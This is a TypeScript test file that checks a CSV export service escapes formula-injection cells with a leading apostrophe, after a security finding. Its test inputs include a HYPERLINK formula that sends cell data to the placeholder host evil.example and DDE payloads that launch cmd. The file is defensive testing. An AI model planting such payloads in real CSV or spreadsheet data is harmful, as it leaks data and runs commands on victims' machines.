import zlib from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { buffer } from 'node:stream/consumers';
import { csvGzipStream } from '../../src/services/csvFiles';

/**
 * Security finding 5: cells an end user or integrator controls (external references, dynamic fields,
 * error texts, emails in audit reports) went into result CSVs unescaped, so a spreadsheet ran them
 * as formulas. Every result CSV (success, failure, audit report, erasure rewrite) is written by
 * csvGzipStream, which now escapes them the OWASP way: a leading apostrophe.
 */
describe('CSV formula injection (finding 5)', () => {
  async function* one(rows: Record<string, unknown>[]) {
    yield rows;
  }
  const render = async (rows: Record<string, unknown>[]) => zlib.gunzipSync(await buffer(csvGzipStream(['ref', 'detail'], one(rows)))).toString('utf8');

  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
  ])('%j is written with a leading apostrophe', async (cell) => {
    const text = await render([{ ref: cell, detail: { note: 'x' } }]);
    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    expect(row.ref).toBe(`'${cell}`);
    expect(Object.values(row).filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  it('harmless cells, numbers, dates and maps are unchanged', async () => {
    const at = new Date('2026-12-02T10:00:00Z');
    const text = await render([{ ref: 'ab12', detail: -5 }, { ref: 'x=1', detail: at }, { ref: 'm', detail: { a: '=1' } }]);
    expect(parse(text, { columns: true })).toEqual([
      { ref: 'ab12', detail: '-5' },
      { ref: 'x=1', detail: at.toISOString() },
      { ref: 'm', detail: '{"a":"=1"}' },
    ]);
  });

  it('rewriting an escaped file (GDPR erasure) does not escape twice', async () => {
    const first = parse(await render([{ ref: '=1+1', detail: '' }]), { columns: true }) as Record<string, string>[];
    const again = parse(await render(first), { columns: true }) as Record<string, string>[];
    expect(again[0].ref).toBe("'=1+1");
  });
});
